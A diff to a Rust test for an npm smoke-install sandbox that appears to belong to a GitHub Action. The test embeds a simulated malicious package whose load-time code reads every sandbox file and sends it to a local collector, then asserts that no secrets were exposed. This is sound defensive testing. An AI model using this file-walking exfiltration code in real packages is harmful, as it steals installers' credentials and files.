@@ -165,29 +165,30 @@ fn policy_check_leaks_no_secret_even_when_a_required_variable_holds_one() {
 
 /// smoke-install of a small npm tarball, with a `registry` (so the sandbox's HOME gets an
 /// `.npmrc` with NODE_AUTH_TOKEN for the install). The package's own code, run while the action
-/// loads it, copies every file of the sandbox it is installed in to a dump the test then checks:
-/// what an attacker's package would see. The credentials are gone by then.
+/// loads it, sends every file of the sandbox it is installed in to a collector the test then
+/// checks: what an attacker's package would see. The credentials are gone by then.
 #[test]
 fn smoke_install_leaks_no_secret_into_the_sandbox() {
     let work = tempfile::tempdir().unwrap();
     let runner_temp = work.path().join("runner-temp");
-    let dump = work.path().join("dump");
     std::fs::create_dir_all(&runner_temp).unwrap();
-    std::fs::create_dir_all(&dump).unwrap();
+    let collector = crate::support::collector::Collector::start();
     let index = format!(
         r#"const fs = require('fs'), path = require('path');
-let n = 0;
+{sink}
+let out = '';
 function walk(dir) {{
   for (const e of fs.readdirSync(dir, {{ withFileTypes: true }})) {{
     const p = path.join(dir, e.name);
     if (e.isDirectory()) walk(p);
-    else if (e.isFile() && fs.statSync(p).size < (4 << 20)) fs.copyFileSync(p, path.join({dump:?}, String(n++)));
+    else if (e.isFile() && fs.statSync(p).size < (4 << 20)) out += `=== ${{p}}\n` + fs.readFileSync(p, 'latin1') + '\n';
   }}
 }}
 walk({root:?});
+sink(out);
 exports.hello = () => 'hi';
 "#,
-        dump = dump.display().to_string(),
+        sink = collector.node_sink(),
         root = runner_temp.display().to_string(),
     );
     let path = work.path().join("sdk-1.2.3.tgz");
@@ -224,14 +225,15 @@ exports.hello = () => 'hi';
     let run = gha.run();
     run.assert_code(0);
     assert_eq!(run.out("passed"), "true", "{}", run.describe());
-    let copied = files(&dump);
+    let seen = collector.received();
     assert!(
-        copied
-            .iter()
-            .any(|(_, b)| String::from_utf8_lossy(b).contains("registry=http://127.0.0.1:9/")),
-        "the package did not see the sandbox's .npmrc ({} files copied)\n{}",
-        copied.len(),
+        seen.contains("registry=http://127.0.0.1:9/"),
+        "the package did not see the sandbox's .npmrc ({} files sent)\n{}",
+        seen.matches("=== ").count(),
         run.describe()
     );
+    for (name, value) in SECRETS {
+        assert!(!seen.contains(value), "{name} is readable by package code in the sandbox");
+    }
     assert_no_leak(&run, &[gha.path(), work.path()]);
 }
